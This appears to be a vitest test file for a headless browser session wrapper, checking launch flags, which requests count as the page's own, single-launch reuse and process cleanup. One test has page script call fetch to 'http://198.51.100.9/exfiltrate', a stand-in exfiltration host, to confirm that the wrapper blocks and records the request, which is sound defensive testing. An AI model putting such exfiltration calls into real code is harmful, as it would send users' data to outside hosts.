// One real launch for the whole file (two cores are shared).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findBrowser } from '../../src/browser/find.js';
import { isOwnRequest, launchArgs, launchCount, openBrowser, type BrowserSession } from '../../src/browser/session.js';
import { launchBrowser } from '../support/browser.js';

let session: BrowserSession;
let launchesBefore = 0;

beforeAll(async () => {
  launchesBefore = launchCount();
  session = await launchBrowser();
});

afterAll(async () => {
  await session?.close();
});

function alive(pid: number): boolean {
  try {
    process.kill(pid, 0);
    return true;
  } catch {
    return false;
  }
}

describe('launch arguments', () => {
  it('turns the sandbox off only for root and always uses a fresh profile', () => {
    expect(launchArgs('/tmp/p', true)).toContain('--no-sandbox');
    expect(launchArgs('/tmp/p', false)).not.toContain('--no-sandbox');
    expect(launchArgs('/tmp/p', false)).toEqual(
      expect.arrayContaining(['--disable-dev-shm-usage', '--disable-quic', '--disable-features=WebUIOmniboxPopup', '--user-data-dir=/tmp/p']),
    );
  });

  it('treats only inline content as the page own', () => {
    expect(isOwnRequest('data:font/woff2;base64,AAAA')).toBe(true);
    expect(isOwnRequest('about:blank')).toBe(true);
    expect(isOwnRequest('file:///etc/hostname')).toBe(false);
    expect(isOwnRequest('http://localhost/')).toBe(false);
  });
});

describe('BrowserSession', () => {
  it('counts exactly one launch and serves many pages from it', async () => {
    const pages = [await session.newIsolatedPage(), await session.newIsolatedPage()];
    for (const page of pages) await page.close();
    expect(launchCount() - launchesBefore).toBe(1);
  });

  it("leaves out the browser's omnibox popup page and keeps puppeteer's own disabled features", async () => {
    const disabled = (session.browser.process()?.spawnargs ?? []).filter((arg) => arg.startsWith('--disable-features='));
    // One list: Chromium reads only the last --disable-features it is given.
    expect(disabled).toHaveLength(1);
    expect(disabled[0]!.split('=')[1]!.split(',')).toEqual(expect.arrayContaining(['WebUIOmniboxPopup', 'Translate']));
    expect(session.browser.targets().map((target) => target.url())).not.toContain('chrome://omnibox-popup.top-chrome/');
  });

  it('refuses a fetch from page script and records it', async () => {
    const page = await session.newIsolatedPage();
    try {
      await page.setContent('<p>x</p>');
      const outcome = await page.evaluate(async () => {
        try {
          await fetch('http://198.51.100.9/exfiltrate');
          return 'fetched';
        } catch {
          return 'refused';
        }
      });
      expect(outcome).toBe('refused');
    } finally {
      await page.close();
    }
    expect(session.blockedRequests).toContain('http://198.51.100.9/exfiltrate');
  });

  it('closes the browser process and can be closed twice', async () => {
    const found = findBrowser({ env: process.env })!;
    const second = await openBrowser(found);
    const pid = second.browser.process()?.pid;
    expect(pid).toBeTypeOf('number');
    await second.close();
    await second.close();
    expect(alive(pid!)).toBe(false);
  });
});
